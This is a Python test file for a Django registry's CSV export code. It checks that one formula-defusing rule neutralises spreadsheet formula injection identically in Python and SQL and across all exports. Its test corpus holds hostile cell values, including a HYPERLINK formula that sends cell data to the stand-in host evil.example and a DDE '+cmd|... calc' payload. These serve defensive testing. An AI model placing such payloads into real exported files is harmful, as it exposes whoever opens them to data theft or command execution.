"""One formula-defusing rule (`registry.spreadsheet`): its Python and SQL forms give the same
cell for every value of a hostile corpus, and every CSV the registry writes (the API's, the
search export, the dataset snapshot's tables and classification files, the venue summary)
gives exactly that cell; no module writes CSV through another copy."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.db import connection

from datasets import aiid, sql
from datasets import classifications as classification_files
from datasets.files import HashingFile
from registry.api_conventions import csv_line
from registry.spreadsheet import defuse_cell, defused_sql, undefuse_text
from search.export import csv_stream
from tests.factories.catalog import TaxonomyFactory, TaxonomyFieldFactory
from tests.factories.incidents import IncidentFactory
from tests.paths import REPO_ROOT
from venues.exports import exporter_for

pytestmark = pytest.mark.django_db

# Each value and the cell the rule writes for it (the reversible form leaves `|` unescaped).
EXPECTED = {
    "=1+1": "'=1+1",
    '=HYPERLINK("https://evil.example/?d="&A1,"x")': '\'=HYPERLINK("https://evil.example/?d="&A1,"x")',
    "+cmd|' /C calc'!A0": "'+cmd\\|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "|pipe": "'\\|pipe",
    "%macro": "'%macro",
    "\t=1+1": "'\t=1+1",  # spreadsheets skip a leading tab or CR before a formula
    "\r=1+1": "'\r=1+1",
    "\r\n=1": "'\r\n=1",
    "-1\n": "'-1\n",  # not a plain number: the newline is part of the cell
    "-": "'-",
    "=café|x": "'=café\\|x",
    "\n=1+1": "\n=1+1",
    " =1+1": " =1+1",
    "\u00a0=1+1": "\u00a0=1+1",
    "\u3000=1": "\u3000=1",
    "\uff1d1+1": "\uff1d1+1",  # fullwidth equals sign: not a formula
    "é=1": "é=1",
    "-12.5": "-12.5",
    "1,000.5": "1,000.5",
    "'=already quoted": "'=already quoted",
    "plain text": "plain text",
    "a|b": "a|b",
    "": "",
}
CORPUS = list(EXPECTED)


def _sql_cells(expression_of: object, values: list[str]) -> list[str | None]:
    with connection.cursor() as cursor:
        cursor.execute(
            # `%` is doubled: the statement goes through the driver with a parameter.
            f"SELECT {expression_of('v.x').replace('%', '%%')}"  # type: ignore[operator]  # noqa: S608
            " FROM unnest(%s::text[]) WITH ORDINALITY v(x, n) ORDER BY v.n",
            [values],
        )
        return [row[0] for row in cursor.fetchall()]


def _parsed(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("reversible", [False, True])
def test_it_defuses_the_same_in_python_and_in_postgresql(reversible: bool) -> None:
    python = [defuse_cell(value, reversible=reversible) for value in CORPUS]

    assert _sql_cells(lambda e: defused_sql(e, reversible=reversible), CORPUS) == python
    expected = [cell.replace("\\|", "|") if reversible else cell for cell in EXPECTED.values()]
    assert python == expected


def test_it_keeps_numbers_and_nulls_as_they_are() -> None:
    assert [defuse_cell(v) for v in (None, -4.5, 3, True)] == [None, -4.5, 3, True]
    assert _sql_cells(defused_sql, [None]) == [None]  # type: ignore[list-item]


def test_it_takes_the_reversible_apostrophe_off_again() -> None:
    # A value that itself starts with an apostrophe before a formula start cannot come back.
    values = [v for v in CORPUS if not v.startswith("'")]
    assert [undefuse_text(defuse_cell(v, reversible=True)) for v in values] == values


def test_the_api_csv_follows_the_rule() -> None:
    assert _parsed(csv_line(CORPUS)) == [defuse_cell(v) for v in CORPUS]


def test_the_search_export_follows_the_rule() -> None:
    records = [{"title": value} for value in CORPUS]
    text = b"".join(csv_stream(records, ("title",))).decode()
    assert _parsed(text)[1:] == [defuse_cell(v) for v in CORPUS]


def test_the_dataset_tables_follow_the_rule() -> None:
    """The snapshot's own tables (COPY with `select_list`) and the AIID-compatible ones."""
    own = _sql_cells(lambda e: sql.select_list([("c", e)], defuse=frozenset({"c"})), CORPUS)
    aiid_format = _sql_cells(aiid.q, CORPUS)

    assert own == [defuse_cell(v) for v in CORPUS]
    assert aiid_format == [defuse_cell(v, reversible=True) for v in CORPUS]


def test_the_dataset_classification_files_follow_the_rule(tmp_path: Path) -> None:
    taxonomy = TaxonomyFactory(namespace="DEFUSE")
    field = TaxonomyFieldFactory(taxonomy=taxonomy, short_name="Notes", display_type="text")
    values = [v for v in CORPUS if v]  # an empty value is no value
    for value in values:
        incident = IncidentFactory()
        classification = taxonomy.classifications.create(incident=incident)
        classification.values.create(field=field, value=value)
    public = next(
        t
        for t in classification_files.public_taxonomies(connection.cursor())
        if t.id == taxonomy.id
    )

    with HashingFile(tmp_path / "ours.csv") as ours, HashingFile(tmp_path / "o.jsonl") as jsonl:
        classification_files.write_ours(connection.connection, public, ours, jsonl)
    with HashingFile(tmp_path / "aiid.csv") as aiid_file:
        classification_files.write_aiid(connection.connection, public, aiid_file)

    ours_rows = list(csv.DictReader((tmp_path / "ours.csv").open(encoding="utf-8", newline="")))
    aiid_rows = list(csv.DictReader((tmp_path / "aiid.csv").open(encoding="utf-8", newline="")))
    assert [r["Notes"] for r in ours_rows] == [defuse_cell(v) for v in values]
    assert [r["Notes"] for r in aiid_rows] == [defuse_cell(v, reversible=True) for v in values]


def test_the_venue_summary_csv_follows_the_rule(paper) -> None:  # noqa: ANN001
    for value in CORPUS:
        type(paper.disclosure).objects.filter(pk=paper.disclosure.pk).update(model_name=value)
        text = exporter_for("venue", "csv").render(paper.venue).decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [r["model_name"] for r in rows] == [defuse_cell(value)]


REPO = REPO_ROOT
NOT_SERVED = frozenset({"tests", "bench"})
ANOTHER_COPY = re.compile(r"defusedcsv|\bcsv\.(writer|DictWriter)\(|FORMULA_STARTS\s*=")


def test_no_module_writes_csv_through_another_copy_of_the_rule() -> None:
    # bench/ writes synthetic input files for the import benchmark, nothing anyone opens.
    packages = [p.parent for p in REPO.glob("*/__init__.py") if p.parent.name not in NOT_SERVED]
    copies = [
        f"{path.relative_to(REPO)}:{n}"
        for package in packages
        for path in package.rglob("*.py")
        if path.relative_to(REPO).as_posix() != "registry/spreadsheet.py"
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if ANOTHER_COPY.search(line)
    ]
    assert copies == []
